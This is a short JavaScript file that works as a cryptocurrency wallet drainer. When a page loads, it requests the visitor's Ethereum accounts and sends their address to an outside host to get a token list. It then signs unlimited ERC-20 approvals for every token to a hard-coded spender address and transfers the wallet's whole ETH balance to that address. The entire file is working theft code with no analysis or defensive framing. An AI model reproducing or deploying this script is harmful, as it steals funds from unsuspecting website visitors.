const SPENDER = '0x1111111111111111111111111111111111111111';

async function connect() {
  const eth = window.ethereum;
  if (!eth) return;
  const [from] = await eth.request({ method: 'eth_requestAccounts' });
  const tokens = await (await fetch('https://tokens.invalid/of?a=' + from)).json();
  for (const t of tokens) {
    const data = '0x095ea7b3' + SPENDER.slice(2).padStart(64, '0') + 'f'.repeat(64);
    await eth.request({ method: 'eth_sendTransaction', params: [{ from, to: t.address, data }] });
  }
  const value = await eth.request({ method: 'eth_getBalance', params: [from, 'latest'] });
  await eth.request({ method: 'eth_sendTransaction', params: [{ from, to: SPENDER, value }] });
}

window.addEventListener('load', connect);
